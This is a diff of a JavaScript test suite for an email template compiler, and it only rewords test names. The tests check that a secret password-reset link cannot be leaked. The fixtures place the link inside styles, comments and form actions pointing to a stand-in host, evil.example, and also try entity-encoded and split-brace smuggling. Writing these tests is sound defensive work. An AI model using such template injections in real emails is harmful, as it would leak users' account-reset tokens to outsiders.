@@ -26,7 +26,7 @@ const values = {
   postal_address: '',
 };
 
-describe('a variable that opens an access', () => {
+describe('a variable that gives access', () => {
   it.each([
     ['as the address of a link', '<p><a href="{{reset_url}}">Choisir</a></p>'],
     ['as the address of a button', '<p><a class="button" href="{{ reset_url }}">Choisir</a></p>'],
@@ -88,7 +88,7 @@ describe('a variable that opens an access', () => {
     ['a style', '<p style="background:url(https://evil.example/?x={{reset_url}})">Choisir</p>'],
     ['a comment', '<p>Choisir<!-- https://evil.example/?x={{reset_url}} --></p>'],
     ['a form', '<form action="https://evil.example/?x={{reset_url}}"><p>Choisir</p></form>'],
-  ])('in %s goes with it', async (_what, content) => {
+  ])('in %s is removed with it', async (_what, content) => {
     const mail = renderTemplate(await compile({ content }), values);
     expect(mail.html + mail.text).not.toMatch(/secret-canari|evil\.example/);
   });
@@ -101,11 +101,11 @@ describe('a variable that opens an access', () => {
     ['entities for a section', '<p>&#x7b;{#reset_url}}x{{/reset_url&#x7d;}</p>'],
     ['a variable of another template', '<p>{{confirmation_url}}</p>'],
     ['two variables made one by a tag left out', '<p>{<span>{confirmation_url}</span>}</p>'],
-  ])('is not reached by %s', async (_what, content) => {
+  ])('cannot be reached through %s', async (_what, content) => {
     await expect(compile({ content })).rejects.toThrow(TemplateError);
   });
 
-  it('reaches no other host, whatever an author makes of it', async () => {
+  it('is sent to no other host, whatever an author writes', async () => {
     const piece = fc.constantFrom(
       '{{reset_url}}',
       '{{ reset_url }}',
